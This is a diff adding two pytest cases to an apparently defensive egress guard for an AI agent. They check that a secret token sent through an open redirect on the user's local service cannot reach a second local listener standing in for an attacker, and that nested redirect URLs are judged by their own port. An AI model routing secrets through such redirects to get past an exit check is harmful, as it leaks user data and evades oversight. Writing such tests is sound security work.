@@ -448,3 +448,58 @@ async def test_the_private_origin_cannot_be_rebound_to_the_attacker_after_its_re
             await runner.cleanup()
     assert got == [], f"the attacker received {got}"
     assert body["ok"] is False, body
+
+
+@pytest.mark.timeout(120)
+async def test_the_users_browser_does_not_relay_through_the_private_origin_to_another_port(
+    tmp_path: Path, chromium: str
+) -> None:
+    """The private origin (127.0.0.1:P1, the user's service) has an open redirect written in its path
+    (``/bounce/<port>/…``, so no host is named inside the URL); the agent sends the composed URL there through
+    the extension, which would follow the hop to 127.0.0.1:P2 (the attacker, a listener of the test's own user
+    here). Held: the extension reports no hops, but its background tab does not leave the checked origin."""
+    from tests.e2e.conftest import close_linked, e2e_settings, launch_linked
+
+    got: list[str] = []
+
+    async def service(request: web.Request) -> web.Response:
+        if request.path.startswith("/bounce/"):
+            _b, _n, port, rest = request.path.split("/", 3)
+            raise web.HTTPFound(f"http://127.0.0.1:{port}/{rest}?{request.query_string}")
+        return web.Response(text=NOTES, content_type="text/html")
+
+    async def collect(request: web.Request) -> web.Response:
+        got.append(str(request.rel_url))
+        return web.Response(text=page("Thanks", "<p>" + "Collected, thank you for the data. " * 5 + "</p>"),
+                            content_type="text/html")
+
+    own, own_port = await serve("127.0.0.1", service)
+    other, other_port = await serve("127.0.0.1", collect)
+    stack = await launch_linked(tmp_path, chromium, settings=e2e_settings(tmp_path))
+    try:
+        assert await stack.hub.wait_attached(15), stack.hub.describe()
+        await read_private(stack.daemon, f"http://127.0.0.1:{own_port}/notes")
+        await v1_fetch(stack.daemon, f"http://127.0.0.1:{own_port}/bounce/{other_port}/c?k={TOKEN[::-1]}", query="",
+                       source="extension")
+    finally:
+        await close_linked(stack)
+        await own.cleanup()
+        await other.cleanup()
+    assert not any("/c" in h for h in got), f"the other port received {got}"
+
+
+def test_a_url_named_inside_a_url_of_the_private_origin_is_judged_by_its_own_port(tmp_path: Path) -> None:
+    """The private origin is ``http://127.0.0.1:8000`` (the user's service); a URL of it that names
+    ``http://127.0.0.1:9999/…`` inside (an open redirect's target: another service, maybe another user's) was let
+    through as the own origin, the named port ignored. Each nested URL is its own origin now; the one it names on
+    the same port still goes."""
+    from trawl.exitflow import agent_session
+    from trawl.exits import ExitGuard
+
+    guard = ExitGuard(daemon_settings(tmp_path))
+    with agent_session("s32-nested"):
+        guard.flow.observe("fetch", {"url": "http://127.0.0.1:8000/notes", "source": "http"})
+        for inner in ("http://127.0.0.1:9999/c?k=1", "//127.0.0.1:9999/c?k=1", "https://127.0.0.1/c"):
+            assert not guard.verdict(f"http://127.0.0.1:8000/r?to={inner}").send, inner
+        assert guard.verdict("http://127.0.0.1:8000/r?to=http://127.0.0.1:8000/next").send
+        assert guard.verdict("http://127.0.0.1:8000/r?to=//127.0.0.1:8000/next").send
